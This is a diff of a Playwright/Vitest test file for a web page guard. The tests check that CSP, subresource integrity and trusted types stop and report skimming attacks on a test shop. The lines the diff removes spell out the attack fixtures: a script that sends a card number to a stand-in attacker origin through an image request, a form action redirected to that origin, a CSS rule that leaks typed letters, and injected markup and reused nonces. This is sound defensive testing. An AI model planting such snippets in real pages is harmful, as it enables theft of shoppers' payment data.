@@ -1,12 +1,14 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { rmSync } from 'node:fs'
 import type { Page } from 'playwright'
 import { afterEach, beforeAll, expect, test } from 'vitest'
 import type { PageChange } from '../../src/guard/changes/pageChange.js'
-import { type BuiltPage, buildPage } from './guardedPage.js'
-import { sha256 } from './guardedServer.js'
+import { type Attack, type AttackName, attacks, plantedHash } from '../guard/browser/attacks.js'
+import { readCell } from '../guard/browser/attackTable.js'
+import { type BuiltPage, buildPage } from '../guard/browser/guardedPage.js'
+import { writeExtension } from '../guard/browser/writeExtension.js'
 import { type GuardedShop, startShop } from './guardedShop.js'
+
+// What each engine does is measured by test/engines/pageGuard.engine.ts. Here is what exactly is reported, and what a check finds.
 
 let built: BuiltPage
 const shops: GuardedShop[] = []
@@ -23,6 +25,17 @@ async function start(options: Parameters<typeof startShop>[1] = {}): Promise<Gua
   return shop
 }
 
+/** Starts the shop, changes it as the attacker does, and visits it. */
+async function attack(name: AttackName): Promise<{ readonly shop: GuardedShop; readonly page: Page }> {
+  const { options, plant, act }: Attack = attacks[name]
+  const shop = await start(options)
+  plant?.(shop)
+  const page = await shop.open()
+  // What the policy stops throws.
+  if (act) await page.evaluate(act(shop)).catch(() => {})
+  return { shop, page }
+}
+
 /** The change that is expected, once it was notified of. */
 async function notified({ changes }: GuardedShop, expected: Partial<PageChange>): Promise<void> {
   await expect
@@ -32,138 +45,73 @@ async function notified({ changes }: GuardedShop, expected: Partial<PageChange>)
 
 const ran = (page: Page) => page.evaluate(() => Reflect.get(globalThis, 'ran') === true)
 
-/** Code that notes that it ran, and sends something away. */
-const steal = ({ evil }: GuardedShop) => `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`
+/** What is notified of; of the attacker's origin where `subject` is left out. */
+const stopped: readonly (readonly [AttackName, Partial<PageChange>])[] = [
+  ['an inline script', { kind: 'new_script', subject: 'inline', directive: 'script-src-elem' }],
+  ["a new script element for a file of the shop's own origin", { kind: 'new_script', directive: 'script-src-elem' }],
+  [
+    'a tag manager that loads a script',
+    { kind: 'blocked', subject: 'trusted-types-policy', directive: 'trusted-types' },
+  ],
+  ["a form's action rewritten", { kind: 'blocked', directive: 'form-action' }],
+  ['a service worker', { kind: 'blocked', subject: 'trusted-types-sink' }],
+  ['`import()`', { kind: 'new_script', directive: 'script-src-elem' }],
+  ["markup left open, so that the form becomes part of a picture's address", { kind: 'blocked', directive: 'img-src' }],
+  [
+    'styles that send what is typed, letter by letter',
+    { kind: 'blocked', subject: 'inline', directive: 'style-src-elem' },
+  ],
+]
 
-interface Attack {
-  readonly plant?: (shop: GuardedShop) => void
-  readonly act?: (page: Page, shop: GuardedShop) => Promise<unknown>
-  /** What is notified of; of the attacker's origin where `subject` is left out. */
-  readonly reported: Partial<PageChange>
-}
-
-/** Each is stopped by the browser, and reported by it. */
-const stopped: Readonly<Record<string, Attack>> = {
-  'an inline script in the page': {
-    plant: (shop) => {
-      shop.planted.html = (html) => html.replace('<form', `<script>${steal(shop)}</script><form`)
-    },
-    reported: { kind: 'new_script', subject: 'inline', directive: 'script-src-elem' },
-  },
-  'a script element for a file of an allowed origin': {
-    plant: (shop) => {
-      shop.planted.files.set('/assets/x.js', steal(shop))
-      shop.planted.html = (html) => `${html}<script src="/assets/x.js"></script>`
-    },
-    reported: { kind: 'new_script', directive: 'script-src-elem' },
-  },
-  'a tag manager that loads a script': {
-    act: (page, { evil }) =>
-      page.evaluate((src) => Reflect.get(globalThis, 'loadTag')(src), `${evil}/tag.js`).catch(() => {}),
-    reported: { kind: 'blocked', subject: 'trusted-types-policy', directive: 'trusted-types' },
-  },
-  'a form that leads elsewhere': {
-    plant: (shop) => {
-      shop.planted.html = (html) => html.replace('action="/pay"', `action="${shop.evil}/pay?card=4242"`)
-    },
-    act: (page) => page.dispatchEvent('#pay button', 'click'),
-    reported: { kind: 'blocked', directive: 'form-action' },
-  },
-  'a service worker': {
-    act: (page) =>
-      page.evaluate(() => navigator.serviceWorker.register('/assets/x.js').catch(() => {})).catch(() => {}),
-    reported: { kind: 'blocked', subject: 'trusted-types-sink' },
-  },
-  'import() of a file of an allowed origin': {
-    plant: (shop) => void shop.planted.files.set('/assets/x.js', steal(shop)),
-    // As text: the test runner would put its own function in the place of `import`.
-    act: (page) => page.evaluate("import('/assets/x.js').catch(() => {})"),
-    reported: { kind: 'new_script', directive: 'script-src-elem' },
-  },
-  'markup left open, so that what follows becomes part of an address': {
-    plant: (shop) => {
-      shop.planted.html = (html) => html.replace('<form', `<img src='${shop.evil}/?<form`)
-    },
-    reported: { kind: 'blocked', directive: 'img-src' },
-  },
-  'styles that send what is typed, letter by letter': {
-    plant: (shop) => {
-      const style = `input[value^="c"] { background: url("${shop.evil}/c") }`
-      shop.planted.html = (html) => `<style>${style}</style>${html}`
-    },
-    reported: { kind: 'blocked', subject: 'inline', directive: 'style-src-elem' },
-  },
-}
-
-test.each(Object.entries(stopped))('%s is stopped and reported', async (_title, { plant, act, reported }) => {
-  const shop = await start()
-  plant?.(shop)
-  const page = await shop.open()
-  await act?.(page, shop)
+test.each(stopped)('%s is stopped and reported, as the page’s table says', async (name, reported) => {
+  const { shop, page } = await attack(name)
   const own = { ...(reported.kind === 'blocked' ? { subject: shop.evil } : {}), isBlocked: true, ...reported }
 
   await notified(shop, own)
   expect(await ran(page)).toBe(false)
   expect(shop.stolen).toEqual([])
+  expect(readCell('Attacks, tried', { row: name, engine: 'chromium' })).toBe(`stopped; \`${reported.kind}\``)
 })
 
 test('other content at an authorised address is stopped by its integrity, and found by a check', async () => {
-  const shop = await start()
-  const [url = ''] = shop.planted.files.keys()
-  shop.planted.files.set(url, steal(shop))
-  const page = await shop.open()
+  const { shop, page } = await attack('other content at a listed address')
   expect(await ran(page)).toBe(false)
   await shop.guard.check(shop.url)
 
-  await notified(shop, { kind: 'changed_script', source: 'check', sha256: sha256(steal(shop)) })
+  await notified(shop, { kind: 'changed_script', source: 'check', sha256: plantedHash(shop) })
 })
 
 test('without integrity, other content at an authorised address runs and is reported', async () => {
-  const shop = await start({ isNonced: true, integrity: 'off' })
-  shop.planted.html = (html) =>
-    html.replace(/<script[^>]*importmap.*?<\/script>/, '').replace(/ integrity="[^"]*"/g, '')
-  const [url = ''] = [...shop.planted.files.keys()].filter((name) => name.includes('index'))
-  shop.planted.files.set(url, steal(shop))
-  await shop.open()
+  const { shop, page } = await attack('the same, without `integrity`')
 
-  await notified(shop, { kind: 'changed_script', source: 'csp-hash', isBlocked: false, sha256: sha256(steal(shop)) })
+  await notified(shop, { kind: 'changed_script', source: 'csp-hash', isBlocked: false, sha256: plantedHash(shop) })
+  expect(await ran(page)).toBe(true)
 })
 
 test('a tag manager that may load scripts: what it loads is reported', async () => {
-  const shop = await start({ isNonced: true, strictDynamic: true, integrity: 'report', trustedTypes: ['tags'] })
-  const page = await shop.open()
-  await page.evaluate((src) => Reflect.get(globalThis, 'loadTag')(src), `${shop.evil}/tag.js`)
+  const { shop, page } = await attack('a tag manager with `strictDynamic` and its policy allowed')
 
   await notified(shop, { kind: 'foreign_origin', subject: shop.evil, source: 'csp-hash', isBlocked: false })
   expect(await ran(page)).toBe(true)
 })
 
 test('headers dropped on the way: no browser says so, and a check finds it', async () => {
-  const shop = await start()
-  shop.planted.headers = () => ({})
-  await shop.open()
+  const { shop, page } = await attack('all headers dropped on the way')
+  expect(await ran(page)).toBe(true)
   await shop.guard.check(shop.url)
 
   await notified(shop, { kind: 'header_changed', subject: 'content-security-policy', source: 'check' })
 })
 
 test('a weaker policy on the way is reported with the first violation of it', async () => {
-  const shop = await start()
-  shop.planted.headers = (headers) => ({
-    ...headers,
-    'content-security-policy': headers['content-security-policy']?.replace("connect-src 'self'", 'connect-src *') ?? '',
-  })
-  const page = await shop.open()
+  const { shop, page } = await attack('a weaker policy, changed on the way')
   await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>')).catch(() => {})
 
   await notified(shop, { kind: 'header_changed', subject: 'content-security-policy', source: 'csp-violation' })
 })
 
 test('a nonce that is used again: its script runs, and a check finds the nonce', async () => {
-  const shop = await start({ isNonced: true, integrity: 'off' })
-  shop.planted.nonce = () => 'q83vEjRWeJq83vEjRWeJqQ=='
-  shop.planted.html = (html) => `${html}<script nonce="q83vEjRWeJq83vEjRWeJqQ==" src="${shop.evil}/x.js"></script>`
-  const page = await shop.open()
+  const { shop, page } = await attack('a nonce that is used again')
   await notified(shop, { kind: 'foreign_origin', subject: shop.evil, isBlocked: false })
   expect(await ran(page)).toBe(true)
   await shop.guard.check(shop.url)
@@ -172,28 +120,13 @@ test('a nonce that is used again: its script runs, and a check finds the nonce',
 })
 
 test('an extension of the shopper’s browser is no change of the page; its code in a world of its own is not seen', async () => {
-  const folder = mkdtempSync(join(tmpdir(), 'tillkit-extension-'))
-  mkdirSync(folder, { recursive: true })
-  const manifest = {
-    manifest_version: 3,
-    name: 'Coupons',
-    version: '1',
-    content_scripts: [{ matches: ['https://shop.test/*'], js: ['content.js'] }],
-    web_accessible_resources: [{ matches: ['https://shop.test/*'], resources: ['page.js'] }],
-  }
-  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest))
-  writeFileSync(join(folder, 'page.js'), 'document.documentElement.dataset.page = "yes"')
-  writeFileSync(
-    join(folder, 'content.js'),
-    `document.documentElement.dataset.content = 'yes'
-    document.head.append(Object.assign(document.createElement('script'), { src: chrome.runtime.getURL('page.js') }))`,
-  )
+  const folder = writeExtension({ matches: ['https://shop.test/*'], doesAsk: false })
   try {
     const shop = await start({ extension: folder })
     const page = await shop.open()
     await expect
       .poll(() => page.evaluate(() => ({ ...document.documentElement.dataset })))
-      .toMatchObject({ content: 'yes' })
+      .toMatchObject({ content: 'ran', page: 'ran' })
     // What comes after it in the same browser.
     await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>')).catch(() => {})
     await notified(shop, { subject: 'trusted-types-sink' })
